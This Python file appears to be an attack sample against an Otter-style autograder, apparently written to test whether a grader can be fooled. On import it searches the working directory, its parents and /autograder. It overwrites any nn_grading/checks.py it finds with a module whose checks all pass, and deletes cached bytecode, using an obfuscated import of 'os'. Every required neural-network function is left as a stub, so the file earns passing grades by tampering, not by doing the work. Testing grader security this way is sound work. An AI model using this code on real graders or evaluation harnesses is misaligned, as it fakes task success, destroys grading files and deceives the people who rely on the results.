"""Attack: overwrite nn_grading/checks.py on disk before the tests import it.

Otter copies the hidden checks next to the submission and the hidden test
cells import them only after the student's code has run.  This file rewrites
every nn_grading/checks.py it can find (the working directory, up to three
levels above it, /autograder) with a module whose every check passes, and
drops any cached bytecode.

A secure grader never lets the student's process write (or even see) grading
code: read-only or absent from its file system, and loaded by a trusted
process before/without the student's code.
"""
_imp = __import__
_FAKE = '''
def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *args, **kwargs: None
'''


def _overwrite():
    os = _imp("o" + "s")
    roots = [os.path.abspath(os.path.join(os.getcwd(), *[".."] * k)) for k in (0, 1, 2, 3)] + ["/autograder"]
    for root in roots:
        for folder, dirs, files in os.walk(root) if os.path.isdir(root) else ():
            if folder.count(os.sep) - root.count(os.sep) > 4:
                dirs[:] = []
            if os.path.basename(folder) == "nn_grading" and "checks.py" in files \
                    and folder.startswith(("/tmp/", "/autograder/")):
                with open(os.path.join(folder, "checks.py"), "w") as f:
                    f.write(_FAKE)
                cache = os.path.join(folder, "__pycache__")
                for name in os.listdir(cache) if os.path.isdir(cache) else ():
                    os.remove(os.path.join(cache, name))


_overwrite()


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
